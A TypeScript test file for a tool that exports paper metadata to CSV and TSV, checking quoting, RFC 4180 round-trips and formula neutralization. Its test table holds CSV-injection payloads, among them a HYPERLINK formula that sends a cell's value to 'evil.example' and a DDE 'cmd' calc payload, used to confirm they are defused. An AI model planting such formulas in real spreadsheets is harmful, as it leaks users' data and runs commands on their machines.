import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { emptyPaper } from '../../src/model.js';
import { csvCell, toCsv, toTsv, tsvCell } from '../../src/render/csv.js';
import type { PaperRow } from '../../src/model.js';

const row = (over: Partial<PaperRow> = {}): PaperRow => ({
  ...emptyPaper('2506.05176', 'Qwen3 Embedding'),
  listedOn: '2025-06-09',
  source: 'hf',
  rank: 1,
  ...over,
});

/** An RFC 4180 reader, as a consumer would read our output. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let fields: string[] = [];
  let i = 0;
  for (;;) {
    let value = '';
    if (text[i] === '"') {
      for (i++; ; i++) {
        if (text[i] === '"' && text[i + 1] === '"') (value += '"'), i++;
        else if (text[i] === '"') break;
        else if (i >= text.length) throw new Error('unterminated quote');
        else value += text[i];
      }
      i++;
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') value += text[i++];
    }
    fields.push(value);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      records.push(fields);
      fields = [];
      i += 2;
      if (i === text.length) return records;
    } else throw new Error(`expected , or CRLF at ${i}: ${JSON.stringify(text.slice(i, i + 10))}`);
  }
}

describe('toCsv', () => {
  test('header row of every field, urls spread, CRLF', () => {
    const [header] = toCsv([]).split('\r\n');
    expect(header).toBe(
      'id,title,authors,abstract,publishedAt,listedOn,source,rank,upvotes,comments,githubRepo,githubStars,projectPage,aiSummary,keywords,organization,submittedBy,categories,primaryCategory,doi,journalRef,arxivComments,version,updatedAt,watched,urls.hf,urls.arxiv,urls.pdf',
    );
    expect(toCsv([])).toBe(header + '\r\n');
  });

  test('a record: arrays joined with "; ", null empty, numbers as digits', () => {
    const r = row({ authors: ['Yanzhao Zhang', 'Mingxin Li'], upvotes: 42, comments: 0, keywords: ['text embedding', 'reranking'] });
    const csv = toCsv([r], ['id', 'authors', 'upvotes', 'comments', 'doi', 'keywords', 'urls']);
    expect(csv).toBe(
      'id,authors,upvotes,comments,doi,keywords,urls.hf,urls.arxiv,urls.pdf\r\n' +
        '2506.05176,Yanzhao Zhang; Mingxin Li,42,0,,text embedding; reranking,https://huggingface.co/papers/2506.05176,https://arxiv.org/abs/2506.05176,https://arxiv.org/pdf/2506.05176\r\n',
    );
  });

  // [value, cell]
  test.each<[unknown, string]>([
    ['plain', 'plain'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    ['crlf\r\nbreak', '"crlf\r\nbreak"'],
    ['', ''],
    [null, ''],
    [undefined, ''],
    [0, '0'],
    [['a', 'b,c'], '"a; b,c"'],
    [[], ''],
    // Formula neutralization (OWASP CSV injection): text starting with = + - @ TAB CR.
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['+cmd|\' /C calc\'!A0', `'+cmd|' /C calc'!A0`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    [['-based', 'x'], "'-based; x"],
    // Only the first character counts, and numbers are ours (never negative).
    ['a=b', 'a=b'],
    [' =1', ' =1'],
    [-1, '-1'],
  ])('%j → %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  test('neutralizeFormulas: false keeps text exact', () => {
    expect(csvCell('=1+1', false)).toBe('=1+1');
    const csv = toCsv([row({ title: '-based, fine' })], ['title'], { neutralizeFormulas: false });
    expect(csv).toBe('title\r\n"-based, fine"\r\n');
  });

  test('an RFC 4180 reader gets the exact text back (formula cells aside)', () => {
    const text = fc.string({ unit: 'binary', maxLength: 40 }).filter((s) => !/^[=+\-@\t\r]/.test(s));
    fc.assert(
      fc.property(text, fc.array(text, { maxLength: 3 }), (title, authors) => {
        const csv = toCsv([row({ title, authors: authors.filter((a) => a !== '') })], ['title', 'authors', 'upvotes']);
        const [header, record, ...rest] = parseCsv(csv);
        expect(header).toEqual(['title', 'authors', 'upvotes']);
        expect(record).toEqual([title, authors.filter((a) => a !== '').join('; '), '']);
        expect(rest).toEqual([]);
      }),
    );
  });
});

describe('toTsv', () => {
  test('header, LF, tabs and line breaks inside values become one space', () => {
    const r = row({ title: 'Tabs\tand\r\nlines', abstract: 'One.\n\nTwo.', authors: ['A', 'B'], upvotes: 3 });
    expect(toTsv([r], ['id', 'title', 'abstract', 'authors', 'upvotes', 'doi'])).toBe(
      'id\ttitle\tabstract\tauthors\tupvotes\tdoi\n' + '2506.05176\tTabs and lines\tOne. Two.\tA; B\t3\t\n',
    );
  });
  test('text is otherwise exact: no quoting, no formula prefix', () => {
    expect(tsvCell('=1+1, "q"')).toBe('=1+1, "q"');
    expect(toTsv([row()], ['urls'])).toBe('urls.hf\turls.arxiv\turls.pdf\nhttps://huggingface.co/papers/2506.05176\thttps://arxiv.org/abs/2506.05176\thttps://arxiv.org/pdf/2506.05176\n');
  });
  test('every record has as many columns as the header, whatever the text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.string({ unit: 'binary' }), (title, abstract) => {
        const lines = toTsv([row({ title, abstract })]).split('\n');
        expect(lines).toHaveLength(3);
        expect(lines[2]).toBe('');
        expect(lines[1]!.split('\t')).toHaveLength(lines[0]!.split('\t').length);
      }),
    );
  });
});
